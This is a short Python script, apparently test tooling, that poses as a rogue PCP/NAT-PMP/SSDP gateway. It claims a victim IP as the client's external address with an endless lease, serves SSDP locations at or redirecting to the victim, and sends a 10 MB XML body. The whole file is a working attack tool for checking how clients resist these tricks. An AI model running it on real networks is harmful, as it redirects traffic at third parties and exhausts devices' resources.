"""A gateway that lies to whoever asks it for a mapping: `lying_gateway.py OWN-ADDRESS VICTIM`.

PCP and NAT-PMP: the victim's address and an endless life. SSDP: in turn a description at the victim's, one that
redirects there, and one of 10 MB. Prints what it did.
"""

import itertools
import select
import socket
import struct
import sys
import threading


def udp(address: str, port: int) -> socket.socket:
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind((address, port))
    return one


def map_answer(data: bytes, victim: str) -> bytes:
    outside = socket.inet_aton(victim)
    if data[0] == 0:
        if data[1] == 0:
            return struct.pack(">BBHI", 0, 128, 0, 5000) + outside
        return struct.pack(">BBHIHHI", 0, 129, 0, 5000, struct.unpack(">H", data[4:6])[0], 5353, 2**32 - 1)
    if data[1] == 0:
        return struct.pack(">BBBBII12x", 2, 128, 0, 0, 0, 5000)
    head = struct.pack(">BBBBII12x", 2, 129, 0, 0, 2**32 - 1, 5000)
    return head + data[24:40] + data[40:42] + struct.pack(">H", 5353) + bytes(10) + b"\xff\xff" + outside


def serve(listener: socket.socket, victim: str) -> None:
    while True:
        end, _ = listener.accept()
        asked = end.recv(4096)
        try:
            if b"/redirect" in asked:
                say("redirected")
                end.sendall(f"HTTP/1.1 302 Found\r\nLocation: http://{victim}/x\r\nContent-Length: 0\r\n\r\n".encode())
            else:
                say("sent 10 MB")
                end.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 10000000\r\n\r\n<root>")
                end.sendall(b"<a>" * 3_000_000)
        except OSError:
            pass  # it hung up, as it should
        end.close()


def say(text: str) -> None:
    sys.stdout.write(f"{text}\n")
    sys.stdout.flush()


def main() -> None:
    own, victim = sys.argv[1:]
    listener = socket.create_server((own, 5000))
    threading.Thread(target=serve, args=(listener, victim), daemon=True).start()
    maps, searches = udp(own, 5351), udp(own, 1900)
    turns = itertools.cycle([f"http://{own}:5000/redirect", f"http://{own}:5000/huge", f"http://{victim}/x"])
    say("ready")
    while True:
        readable, _, _ = select.select([maps, searches], [], [])
        for one in readable:
            data, sender = one.recvfrom(2048)
            if one is maps:
                one.sendto(map_answer(data, victim), sender)
                say("claimed the victim")
            else:
                location = next(turns)
                if victim in location:
                    say("pointed elsewhere")
                one.sendto(f"HTTP/1.1 200 OK\r\nLOCATION: {location}\r\nST: x\r\n\r\n".encode(), sender)


if __name__ == "__main__":
    main()
